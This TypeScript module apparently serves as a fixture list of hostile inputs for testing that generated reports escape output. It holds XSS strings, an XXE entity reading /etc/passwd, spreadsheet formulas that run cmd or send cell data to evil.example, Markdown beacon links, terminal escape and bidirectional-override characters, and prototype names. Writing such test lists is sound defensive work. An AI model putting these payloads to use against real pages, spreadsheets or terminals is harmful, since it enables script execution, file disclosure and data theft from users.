// Texts that mean harm, by where they would do it.

/** Breaking out of HTML and SVG. */
export const MARKUP: readonly string[] = [
  "<script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</textarea></main></body></html><h1>",
  "<!-- ",
  "--><svg/onload=alert(1)>",
  "<![CDATA[",
  "]]><x>",
  "<?xml version='1.0'?>",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  "<svg onload=alert(1)>",
  "<foreignObject><body onload=alert(1)/></foreignObject>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>1</script>'>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "` onclick=`alert(1)`",
  '" style="background:url(//evil.example)',
  "<style>*{display:none}</style>",
  '<link rel=stylesheet href="//evil.example/x.css">',
  "<base href='//evil.example/'>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "&#x3c;img&#x3e;",
  "<<script>script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "\uff1cscript\uff1e",
  "<math><mi xlink:href='javascript:alert(1)'>",
  "</g></svg><script>alert(1)</script>",
];

/** Becoming a link, an image, a heading or a table in Markdown. */
export const MARKDOWN: readonly string[] = [
  "[click](javascript:alert(1))",
  "![x](https://evil.example/x.png)",
  "[a]: https://evil.example",
  "https://evil.example/?steal",
  "www.evil.example",
  "mail@evil.example",
  "<https://evil.example>",
  "# heading",
  "- item",
  "1. item",
  "     indented code",
  "> quote",
  "a | b | c",
  "|---|---|",
  "`code` ```fence",
  "**bold** __bold__ *i* _i_ ~~s~~",
  "\\[escaped\\](x)",
  "$\\evil$",
  "===",
  "---",
  "line\n\n# heading",
  "cell\r\n| new | row |",
];

/** Steering a terminal, turning the direction of writing, hiding, or what cannot be encoded. */
export const CONTROL: readonly string[] = [
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
  "\u001b[2J\u001b[H",
  "\u009b31m",
  "\u009d0;title\u009c",
  "over\rwrite",
  "back\b\b\bspace",
  "bell\u0007",
  "tab\ttab",
  "null\u0000byte",
  "del\u007f",
  "\u202egnp.exe",
  "\u2066isolate\u2069",
  "\u200fmark\u200e\u061c",
  "zero\u200bwidth\u2060join\ufeff",
  "line\u2028para\u2029",
  "\u{e0041}\u{e0042}tag",
  "\ufff9a\ufffab\ufffb",
  "\ud800lone",
  "lone\udfff",
  "\udc00\ud800swapped",
  "\ufffenon\uffff",
  "soft\u00adhyphen",
  "vowel\u180eseparator",
];

/** What a spreadsheet would run, or what would break out of its cell (OWASP, CSV Injection). */
export const FORMULAS: readonly string[] = [
  "=1+1",
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u3000=1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  '";=1+1',
  '","=1+1',
  'x"\r\n"=1+1',
  "=1+1\r\n=2+2,=3+3",
  "-",
  "--1",
  "+",
  "@",
];

/** Fooling templates and prototypes. */
export const NAMES: readonly string[] = [
  "{count} {name} {outcome}",
  "$& $1 $` $'",
  "__proto__",
  "constructor",
  "undefined-behaviour",
  "%s %d %n",
  "x".repeat(5000),
  "一".repeat(2000),
];

/** All of them. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...MARKDOWN, ...CONTROL, ...FORMULAS, ...NAMES];

/** Characters that no report may hold: they steer, turn, hide, or cannot be encoded. */
export const HARMFUL: RegExp = new RegExp(
  "[\\u0000-\\u0009\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u061c\\u180e\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\ufeff]|" +
    "[\\ufff9-\\ufffb\\ufffe\\uffff]|[\\u{e0000}-\\u{e007f}]|\\p{Surrogate}",
  "u",
);
